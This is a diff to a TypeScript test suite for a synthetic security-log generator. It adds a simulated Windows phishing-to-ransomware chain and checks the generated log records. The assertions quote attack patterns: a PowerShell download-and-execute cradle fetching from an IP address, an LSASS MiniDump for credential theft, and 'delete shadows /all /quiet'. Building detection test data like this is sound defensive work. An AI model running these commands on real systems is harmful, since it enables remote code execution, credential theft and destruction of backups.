@@ -48,7 +48,7 @@ function hashDir(dir: string): string {
 describe('the scenario library', () => {
   it('holds the 35 Stratus Red Team techniques with real detonation records and the cross-source chains', () => {
     expect(SCENARIOS.filter((s) => s.name.startsWith('stratus.')).length).toBe(35);
-    for (const name of ['okta-spray-mfa-fatigue-aws', 'ssh-brute-force-persistence', 'cloudtrail-defense-evasion', 'iam-persistence-snapshot-exfiltration']) expect(SCENARIOS.some((s) => s.name === name)).toBe(true);
+    for (const name of ['phishing-to-ransomware', 'okta-spray-mfa-fatigue-aws', 'ssh-brute-force-persistence', 'cloudtrail-defense-evasion', 'iam-persistence-snapshot-exfiltration']) expect(SCENARIOS.some((s) => s.name === name)).toBe(true);
     expect(new Set(SCENARIOS.map((s) => s.name)).size).toBe(SCENARIOS.length);
   });
 
@@ -80,12 +80,13 @@ describe('the scenario library', () => {
     const { actors } = await readPopulationParquet(population, 'p');
     const servers = buildInventory({ actors: [...actors], account_ids: [...new Set(actors.map((a) => a.account_id))] });
     const config = scenariosSchema.parse({ enabled: true, per_day: 3 });
-    const plan = planScenarios(config, SCENARIOS, '5', actors, servers, ['cloudtrail', 'okta', 'linux-auth', 'linux-auditd', 'ecs-alerts'], Date.parse('2025-12-01T00:00:00Z'));
+    const plan = planScenarios(config, SCENARIOS, '5', actors, servers, ['cloudtrail', 'okta', 'linux-auth', 'linux-auditd', 'ecs-alerts', 'windows-security', 'sysmon'], Date.parse('2025-12-01T00:00:00Z'));
     expect(plan.running.length).toBe(SCENARIOS.length);
     const steps = [0, 1, 2].flatMap((d) => plan.planDay(20_423 + d));
     expect(new Set(steps.map((s) => s.scenario.name)).size).toBeGreaterThan(30);
     for (const s of steps) {
-      expect(JSON.stringify(s.values) + JSON.stringify(s.record ?? {})).not.toContain('{{');
+      // Everything is filled but what the pack fills itself ({{ pack:lsass_pid }}: the host's own value).
+      expect((JSON.stringify(s.values) + JSON.stringify(s.record ?? {})).replace(/\{\{ pack:\w+ \}\}/g, '')).not.toContain('{{');
     }
     // A source missing from the run skips the scenarios that write it, and says so.
     const ctOnly = planScenarios(config, SCENARIOS, '5', actors, servers, ['cloudtrail'], 0);
@@ -113,7 +114,9 @@ describe('a run with scenarios', () => {
     out = join(dir, 'out');
     const r = await runCli(['gen', '--config', writeFile(dir, 'run.toml', config(population, out, true)), '--until-time', '2025-12-02T00:00:00Z', '--workers', '2']);
     expect(r.code, r.stderr).toBe(0);
-    expect(r.stderr).toMatch(new RegExp(`scenarios +${SCENARIOS.length} running, [\\d,]+ labels in `));
+    expect(r.stderr).toMatch(new RegExp(`scenarios +${SCENARIOS.length - 1} running, [\\d,]+ labels in `));
+    // The Windows chain needs the Windows sources: skipped, and said so.
+    expect(r.stderr).toMatch(/skipped +phishing-to-ransomware: the run has no sysmon, windows-security/);
     labels = readFileSync(join(out, 'labels.jsonl'), 'utf8').trim().split('\n').map((l) => JSON.parse(l) as Label);
     for (const f of FOLDERS) records[f] = lines(join(out, f));
     // The same run without scenarios, and with one worker.
@@ -249,5 +252,71 @@ describe('a run with scenarios', () => {
     const list = r.stdout.trim().split('\n').map((l) => JSON.parse(l));
     expect(list.length).toBe(SCENARIOS.length);
     expect(list.find((s) => s.name === 'ssh-brute-force-persistence').sources).toEqual(['linux-auth', 'linux-auditd', 'ecs-alerts']);
+  });
+});
+
+describe('a Windows chain: phishing to ransomware', () => {
+  let labels: Label[];
+  const byId: Record<string, Map<string, Record<string, any>>> = {};
+
+  beforeAll(async () => {
+    const dir = tempDir();
+    const population = await buildPopulationFile(dir, 'seed = 12\n[population]\nactor_count = 40\nservice_ratio = 0.2\n');
+    const out = join(dir, 'out');
+    const cfg =
+      sourcesConfig({ seed: 12, population, sources: ['windows_security', 'sysmon', 'ecs_alerts'], outputs: fileOutput(out) }).replace('2025-12-01T00:00:00Z', '2025-12-01T08:00:00Z') +
+      '\n[scenarios]\nenabled = true\nrates = { "phishing-to-ransomware" = 30 }\ninclude = ["phishing-to-ransomware"]\nseasonality = "any"\nwindow = { end = "2025-12-01T12:00:00Z" }\n';
+    const r = await runCli(['gen', '--config', writeFile(dir, 'win.toml', cfg), '--until-time', '2025-12-01T14:00:00Z']);
+    expect(r.code, r.stderr).toBe(0);
+    labels = readFileSync(join(out, 'labels.jsonl'), 'utf8').trim().split('\n').map((l) => JSON.parse(l) as Label);
+    const want = new Set(labels.map((l) => `${l.source} ${l.id}`));
+    const winId = /"computer_name":"([^"]+)".*?"record_id":"(\d+)"/;
+    for (const f of ['windows-security', 'sysmon', 'ecs-alerts']) {
+      byId[f] = new Map();
+      for (const line of lines(join(out, f))) {
+        const id = f === 'ecs-alerts' ? (line.includes('"attack":') ? JSON.parse(line).event.id : '') : winId.exec(line)!.slice(1).join(':');
+        if (want.has(`${f} ${id}`)) byId[f].set(id, JSON.parse(line));
+      }
+    }
+  }, 300_000);
+
+  it('ties the processes into one tree, on the victim\'s workstation, then the file server', () => {
+    const instances = [...new Set(labels.filter((l) => l.step === 'encrypt').map((l) => l.instance))];
+    expect(instances.length).toBeGreaterThan(0);
+    for (const l of labels) expect(byId[l.source].has(l.id), `${l.source} ${l.id}`).toBe(true);
+    for (const inst of instances) {
+      const doc = (step: string) => byId[labels.find((l) => l.instance === inst && l.step === step)!.source].get(labels.find((l) => l.instance === inst && l.step === step)!.id)!;
+      const word = doc('macro');
+      const ps = doc('powershell');
+      const dump = doc('dump-tool');
+      const access = doc('lsass-access');
+      expect(ps.process.parent.entity_id).toBe(word.process.entity_id);
+      expect(dump.process.parent.entity_id).toBe(ps.process.entity_id);
+      expect(ps.process.command_line).toMatch(/ -enc [A-Za-z0-9+/=]{40,}$/);
+      expect(Buffer.from(ps.process.command_line.split(' -enc ')[1], 'base64').toString('utf16le')).toMatch(/^IEX \(New-Object Net\.WebClient\)\.DownloadString\('http:\/\/[\d.]+\/a'\)$/);
+      // The dump names lsass's pid, the one Sysmon sees opened.
+      expect(dump.process.command_line).toContain(`MiniDump ${access.winlog.event_data.TargetProcessId} `);
+      expect(access.winlog.event_data.GrantedAccess).toBe('0x1FFFFF');
+      expect(access.message).toContain(`SourceProcessGUID: ${dump.process.entity_id}`);
+      const workstation = word.host.name;
+      for (const d of [ps, dump, access]) expect(d.host.name).toBe(workstation);
+      // On the file server: the logon from the workstation, PsExec under services.exe, vssadmin and the locker under PsExec.
+      const server = doc('psexec-service').host.name;
+      expect(server).toMatch(/^FILE-/);
+      const logons = labels.filter((l) => l.instance === inst && l.step === 'lateral-logon').map((l) => byId['windows-security'].get(l.id)!);
+      expect(logons.some((d) => d.event.code === '4624' && d.host.name === server && d.winlog.event_data.LogonType === '3')).toBe(true);
+      expect(doc('psexec-service').process.parent.name).toBe('services.exe');
+      expect(doc('shadow-delete').process.parent.entity_id).toBe(doc('psexec-service').process.entity_id);
+      expect(doc('shadow-delete').process.command_line).toContain('delete shadows /all /quiet');
+      const encrypted = labels.filter((l) => l.instance === inst && l.step === 'encrypt').map((l) => byId.sysmon.get(l.id)!);
+      expect(encrypted.length).toBeGreaterThanOrEqual(40);
+      for (const d of encrypted) {
+        expect(d.host.name).toBe(server);
+        expect(d.process.entity_id).toBe(doc('locker').process.entity_id);
+        expect(d.file.path).toBe(`${d.file.directory}\\${d.file.name}`);
+        expect(d.file.name).toMatch(/\.locked$/);
+      }
+      expect(new Set(encrypted.map((d) => d.file.path)).size).toBeGreaterThan(encrypted.length / 2);
+    }
   });
 });
